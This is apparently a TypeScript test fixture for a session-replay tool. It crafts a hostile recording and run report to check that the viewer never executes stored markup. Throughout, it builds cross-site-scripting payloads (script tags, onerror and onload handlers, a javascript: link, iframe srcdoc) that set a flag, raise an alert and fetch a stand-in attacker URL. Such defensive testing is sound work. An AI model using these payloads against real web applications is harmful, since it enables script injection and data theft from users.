// A recording crafted to run script in whoever views it: every payload, if it ever executes, sets __pwned,
// calls alert() and fetches the attacker's loopback server, so the test can catch it three ways.
import type { RecordedEvent, SessionVerdict } from '../../protocol/index.js';
import type { StepObservation } from '../../protocol/trajectory.js';
import type { SessionResult, StoredRun } from '../../server/store/index.js';
import { batch, custom, meta } from '../../server/test/helpers/batches.js';

export const HOSTILE_SESSION_ID = 'hostile-session-0001';
export const HOSTILE_RUN_ID = 'hostile-run-0001';
const START = Date.now() - 60_000;

/** JavaScript that proves execution: a global flag in this frame and its parent, a dialog, and a request. */
export function pwn(attackerUrl: string, via: string): string {
  return `window.__pwned=1;try{parent.__pwned=1;top.__pwned=1}catch(e){};alert('${via}');fetch('${attackerUrl}/${via}')`;
}

/** An HTML string that runs `pwn` when parsed as markup (innerHTML), rendered as text it is harmless. */
export const markupPayload = (attackerUrl: string, via: string) => `<img src=x onerror="${pwn(attackerUrl, via)}">`;

let nextId = 1;
const text = (textContent: string) => ({ type: 3, textContent, id: nextId++ });
const element = (tagName: string, attributes: Record<string, string>, childNodes: unknown[] = []) => ({ type: 2, tagName, attributes, childNodes, id: nextId++ });

/** The FullSnapshot as rrweb serializes nodes (type 0 document, 1 doctype, 2 element, 3 text). */
function hostileSnapshot(attackerUrl: string): unknown {
  nextId = 1;
  const documentId = nextId++;
  return {
    type: 0,
    id: documentId,
    childNodes: [
      { type: 1, name: 'html', publicId: '', systemId: '', id: nextId++ },
      element('html', {}, [
        element('head', {}, [element('script', {}, [text(pwn(attackerUrl, 'head-script'))])]),
        element('body', { onload: pwn(attackerUrl, 'body-onload') }, [
          element('h1', {}, [text('Hostile checkout')]),
          element('script', {}, [text(pwn(attackerUrl, 'body-script'))]),
          element('img', { src: 'x-missing.png', onerror: pwn(attackerUrl, 'img-onerror'), onload: pwn(attackerUrl, 'img-onload') }),
          element('a', { href: `javascript:${pwn(attackerUrl, 'javascript-href')}`, id: 'hostile-link', style: 'display:block;padding:20px;font-size:24px' }, [text('Click me')]),
          element('iframe', { srcdoc: `<script>${pwn(attackerUrl, 'srcdoc-script')}</script>` }),
          element('svg', { onload: pwn(attackerUrl, 'svg-onload') }),
        ]),
      ]),
    ],
  };
}

export function hostileEvents(attackerUrl: string): RecordedEvent[] {
  const href = 'https://shop.example/checkout';
  return [
    meta(href, START),
    { type: 2, data: { node: hostileSnapshot(attackerUrl), initialOffset: { left: 0, top: 0 } }, timestamp: START + 1 } as RecordedEvent,
    custom('reprise.context', { url: href, userAgent: 'Mozilla/5.0 Chrome/156.0.0.0', viewport: { width: 1280, height: 720 }, appVersion: markupPayload(attackerUrl, 'app-version') }, START + 2),
    custom('reprise.identify', { userId: markupPayload(attackerUrl, 'user-id') }, START + 3),
    custom('reprise.action', { type: 'click', target: { candidates: [], tag: 'a', role: 'link', name: markupPayload(attackerUrl, 'action-target') } }, START + 1_000),
    // A mouse move and a click a second later, so the player has a timeline to play through.
    { type: 3, data: { source: 2, type: 2, id: 9, x: 40, y: 80 }, timestamp: START + 1_000 } as RecordedEvent,
    { type: 3, data: { source: 1, positions: [{ x: 50, y: 90, id: 9, timeOffset: 0 }] }, timestamp: START + 2_000 } as RecordedEvent,
  ];
}

export const hostileBatch = (attackerUrl: string) => batch(HOSTILE_SESSION_ID, 0, hostileEvents(attackerUrl));

/** A finished run whose texts (ticket, divergence, step target, error) all carry markup. */
export function hostileRunResult(attackerUrl: string, projectId: string): { run: StoredRun; result: SessionResult } {
  const target = { url: 'https://shop.example/' };
  const html = (via: string) => markupPayload(attackerUrl, via);
  const clickTarget = { candidates: [], tag: 'a', role: 'link', name: html('step-target') };
  const step: StepObservation = {
    index: 0, action: { type: 'click', target: clickTarget }, outcome: 'performed', url: 'https://shop.example/checkout', title: html('step-title'),
    aria: html('step-aria'), text: html('step-text'), textDigest: 'x', requests: [], consoleErrors: [html('console-error')], pageErrors: [html('page-error')],
    dialogs: [], quiescenceMs: 0, durationMs: 10,
  };
  const replay = (mode: 'baseline' | 'candidate') => ({ sessionId: HOSTILE_SESSION_ID, target: `${target.url}${mode}`, mode: 'live' as const, status: 'completed' as const, steps: [step], startedAt: START, durationMs: 10 });
  const verdict: SessionVerdict = {
    id: HOSTILE_SESSION_ID, status: 'diverged', ticketProbability: 0.9, userId: html('verdict-user'), error: html('verdict-error'),
    divergences: [{ kind: 'console-error', step: 0, summary: html('divergence-summary'), severity: 1, element: html('divergence-element'), evidence: { message: html('evidence') } }],
    explanation: [{ feature: html('feature'), value: 1, contribution: 1 }],
    reproSteps: [html('repro-step')],
  } as SessionVerdict;
  const report = {
    run: { id: HOSTILE_RUN_ID, baseline: target.url, candidate: target.url, durationMs: 10, status: 'completed' as const, createdAt: START },
    sessions: [verdict],
    tickets: [{
      id: 'ticket-1', title: html('ticket-title'), probability: 0.9, signature: html('signature'), kind: 'console-error' as const, sessionIds: [HOSTILE_SESSION_ID], userIds: [html('ticket-user')],
      draft: { title: html('draft-title'), stepsToReproduce: [html('draft-step')], expected: html('draft-expected'), observed: html('draft-observed') }, explanation: [],
    }],
  };
  const run: StoredRun = {
    id: HOSTILE_RUN_ID, projectId, status: 'completed', trigger: 'api', baseline: target, candidate: target, createdAt: START, startedAt: START, finishedAt: START + 10,
    progress: { total: 1, done: 1 }, counts: { replayed: 1, diverged: 1, errors: 0, tickets: 1 }, report,
  };
  return { run, result: { runId: HOSTILE_RUN_ID, sessionId: HOSTILE_SESSION_ID, verdict, baseline: replay('baseline'), baselineRepeat: replay('baseline'), candidate: replay('candidate') } };
}
